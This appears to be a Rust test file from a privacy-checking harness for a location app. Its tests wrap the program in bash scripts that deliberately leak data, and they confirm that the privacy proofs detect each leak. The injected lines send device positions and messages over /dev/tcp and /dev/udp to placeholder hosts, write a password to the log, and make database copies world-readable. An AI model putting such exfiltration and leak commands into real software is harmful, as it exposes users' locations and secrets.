//! Programs that break a promise on purpose: the proofs must see it.
//!
//! Each is a script around the real program. What it does besides is a line of shell, run when the
//! program syncs, or before a map. That the proofs hold for the program as it is, is what
//! `cargo xtask prove-privacy` shows.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use kplaces_edition::EditionId;

use super::outcome::Outcome;
use super::proof::PROOFS;
use super::subject::Subject;
use kplaces_tools::cargo::{build_of, executable};
use kplaces_tools::environment;

/// The smallest edition is enough, and quickest.
const EDITION: EditionId = EditionId::Basic;

fn built(package: &str) -> PathBuf {
    executable(build_of(package, false)).unwrap()
}

fn programs() -> &'static (PathBuf, PathBuf) {
    static PROGRAMS: OnceLock<(PathBuf, PathBuf)> = OnceLock::new();
    PROGRAMS.get_or_init(|| (built("kplaces-basic"), built("kplaces-webfleet-sim")))
}

/// Puts a program to one proof that does this besides: after a sync, or, with `$1` in it, whenever
/// it is started.
fn proved(id: &str, besides: &str) -> Option<Outcome> {
    proved_by(EDITION, id, &around(&programs().0, besides))
}

/// Puts a script around a program of this edition to one proof.
fn proved_by(edition: EditionId, id: &str, around: &str) -> Option<Outcome> {
    let (_, stand_in) = programs();
    let proof = PROOFS.iter().find(|proof| proof.id == id).unwrap();
    if let Some(name) = proof
        .needs
        .iter()
        .find(|name| environment::program(name).is_none())
    {
        // As for the readers of exports: said aloud, and in CI an error.
        assert!(!environment::is_ci(), "{name} is missing");
        println!("NOT CHECKED: {name} is missing");
        return None;
    }
    let scratch = tempfile::tempdir().unwrap();
    fs::set_permissions(scratch.path(), fs::Permissions::from_mode(0o711)).unwrap();
    let script = scratch.path().join("kplaces-around");
    fs::write(&script, around).unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    let subject = Subject::new(edition, &script, stand_in, &scratch.path().join("run")).unwrap();
    Some(
        (proof.run)(&subject).unwrap_or_else(|error| Outcome::Violated(vec![format!("{error:#}")])),
    )
}

fn around(program: &Path, besides: &str) -> String {
    format!(
        "#!/bin/bash\nprogram={}\nif [ \"$1\" = map ]; then\n:\n{}exec \"$program\" \"$@\"\nfi\n\
         \"$program\" \"$@\"\ncode=$?\nif [ \"$1\" = sync ]; then\n:\n{besides}\nfi\nexit $code\n",
        program.display(),
        if besides.is_empty() {
            String::new()
        } else {
            format!("{besides}\n")
        },
    )
}

/// The proof holds for the program as it is, and not for one that does this besides.
#[track_caller]
fn assert_seen(id: &str, besides: &str, words: &str) {
    if let Some(outcome) = proved(id, besides) {
        assert_violated(id, outcome, words);
    }
}

#[track_caller]
fn assert_violated(id: &str, outcome: Outcome, words: &str) {
    let seen = match outcome {
        Outcome::Violated(seen) => seen,
        // Where there is no right to mount a medium, say; in CI there is.
        Outcome::NotRun(why) if !environment::is_ci() => return println!("NOT CHECKED: {why}"),
        other => panic!("{id} does not see it: {other:?}"),
    };
    assert!(
        seen.iter().any(|line| line.contains(words)),
        "{id}: {seen:?}"
    );
}

#[test]
fn a_connection_to_another_host_is_seen() {
    // Refused, as nobody listens there; the attempt is what counts.
    let besides = "{ exec 9<>/dev/tcp/127.0.0.1/9; } 2>/dev/null";
    assert_seen("one-host", besides, "`3kplaces sync` reaches 127.0.0.1:9");
}

#[test]
fn a_message_to_another_host_is_seen() {
    let besides = "{ echo hello >/dev/udp/192.0.2.1/53; } 2>/dev/null";
    assert_seen("one-host", besides, "reaches 192.0.2.1:53");
    if environment::program("unshare").is_some() && environment::program("ip").is_some() {
        let outcome = proved("closed-network", besides).unwrap();
        let seen = match &outcome {
            Outcome::Violated(seen) => seen.join("\n"),
            // Where no network of one's own can be had.
            Outcome::NotRun(_) if !environment::is_ci() => return,
            other => panic!("{other:?}"),
        };
        assert!(
            seen.contains("packets were sent to somebody else"),
            "{seen}"
        );
    }
}

#[test]
fn a_personal_column_in_a_file_is_seen() {
    let besides =
        "echo Q0FOQVJZLUthbsOkcmllbnZvZ2VsLVNUUkVFVA== >>\"$HOME/.local/share/3kplaces/more\"";
    assert_seen(
        "canary-files",
        besides,
        ".local/share/3kplaces/more holds a personal column (Base64)",
    );
}

#[test]
fn the_sentence_of_a_reply_in_the_record_of_syncs_is_seen() {
    // It writes what it says on the screen into its own record.
    let besides = "\"$program\" sync >/dev/null 2>>\"$HOME/.local/state/3kplaces/runs/said.jsonl\"";
    assert_seen(
        "canary-files",
        besides,
        "runs/said.jsonl holds the text of a reply or the name of a group",
    );
}

#[test]
fn a_column_that_is_asked_for_besides_is_seen() {
    let besides = "url=${KPLACES_WEBFLEET__URL#http://}; host=${url%%/*}; \
         { exec 9<>\"/dev/tcp/${host%:*}/${host#*:}\"; \
         printf 'GET /extern?action=showAddressReportExtern&columnfilter=addrno%%2Cstreet HTTP/1.1\\r\\n\
         Host: x\\r\\nConnection: close\\r\\n\\r\\n' >&9; cat <&9 >/dev/null; }";
    assert_seen(
        "columns",
        besides,
        "showAddressReportExtern is asked for with the column street",
    );
}

#[test]
fn a_password_in_the_log_is_seen() {
    let besides = "echo 'TRACE login password=canary-password-7Q' >&2";
    assert_seen(
        "secrets",
        besides,
        "the log of `3kplaces sync` holds the password (UTF-8)",
    );
}

#[test]
fn a_file_that_others_may_read_is_seen() {
    let besides = "cp \"$HOME/.local/share/3kplaces/places.db\" \"$HOME/.local/share/3kplaces/copy.db\"; \
         chmod 0644 \"$HOME/.local/share/3kplaces/copy.db\"";
    assert_seen("modes", besides, "copy.db has mode 0644 instead of 0600");
}

/// The page that leads into the map is a key to it.
#[test]
fn a_way_into_the_map_that_others_may_read_is_seen() {
    let besides = "door=\"$HOME/.local/state/3kplaces/map/other\"; mkdir -p -m 0700 \"$door\"; \
         echo '?token=' > \"$door/3kplaces.html\"; chmod 0644 \"$door/3kplaces.html\"";
    assert_seen(
        "modes",
        besides,
        "3kplaces.html has mode 0644 instead of 0600",
    );
}

#[test]
fn a_copy_that_was_deleted_and_not_overwritten_is_seen() {
    let besides = "cp \"$HOME/.local/share/3kplaces/places.db\" \"$HOME/copy\" && sync \"$HOME/copy\" && rm \"$HOME/copy\"";
    assert_seen("raw-medium", besides, "are on the medium");
}

#[test]
fn a_port_that_is_open_to_the_network_is_seen() {
    if environment::program("python3").is_none() {
        assert!(!environment::is_ci(), "python3 is missing");
        println!("NOT CHECKED: python3 is missing");
        return;
    }
    // It listens, and passes the open port on to the program that takes its place.
    let besides = "exec python3 -c 'import os, socket, sys; s = socket.socket(); s.bind((\"0.0.0.0\", 0)); \
         s.listen(); s.set_inheritable(True); os.execv(sys.argv[1], sys.argv[1:])' \"$program\" \"$@\"";
    assert_seen(
        "loopback-only",
        &format!("if [ \"$1\" = map ]; then {besides}; fi"),
        "the map listens on tcp 0.0.0.0:",
    );
}

/// Pro, since Basic knows no positions; what it does besides stands before each watch of standard input.
fn watched(besides: &str) -> Option<Outcome> {
    with_positions("[ \"$1\" = watch ] && [ \"$3\" = - ]", besides)
}

/// The same before each program that this is true of.
fn with_positions(when: &str, besides: &str) -> Option<Outcome> {
    let program = built("kplaces-pro");
    let around = format!(
        "#!/bin/bash\nprogram={}\nif {when}; then\n:\n{besides}\nfi\nexec \"$program\" \"$@\"\n",
        program.display(),
    );
    proved_by(EditionId::Pro, "positions", &around)
}

#[test]
fn a_position_in_a_file_is_seen() {
    let besides = "tee -a \"$HOME/.local/state/3kplaces/way.log\" | \"$program\" \"$@\"; exit $?";
    if let Some(outcome) = watched(besides) {
        let words = ".local/state/3kplaces/way.log holds a position of the device";
        assert_violated("positions", outcome, words);
    }
}

#[test]
fn a_position_in_the_log_is_seen() {
    let besides = "tee /dev/stderr | \"$program\" \"$@\"; exit $?";
    if let Some(outcome) = watched(besides) {
        let words = "the log of `3kplaces watch --source - --pace max --json` holds a position of the device";
        assert_violated("positions", outcome, words);
    }
}

#[test]
fn a_position_that_is_sent_is_seen() {
    // Refused, as nobody listens there; that it was written to a socket is what counts.
    let besides = "way=$(cat); echo \"$way\" 2>/dev/null >/dev/udp/127.0.0.1/9; \
         echo \"$way\" | \"$program\" \"$@\"; exit $?";
    if let Some(outcome) = watched(besides) {
        let words =
            "what `3kplaces watch --source - --pace max --json` writes and sends holds a position";
        assert_violated("positions", outcome, words);
    }
}

#[test]
fn a_position_of_a_receiver_that_a_map_sends_to_others_is_seen() {
    let when = "[ \"$1\" = map ] && [ -n \"$KPLACES_ALERTS__SOURCE\" ]";
    let besides = "cat \"$HOME/../positions-tour/tour.nmea\" 2>/dev/null >/dev/udp/127.0.0.1/9";
    if let Some(outcome) = with_positions(when, besides) {
        let words =
            "what a map with a receiver writes and sends to others than its page holds a position";
        assert_violated("positions", outcome, words);
    }
}
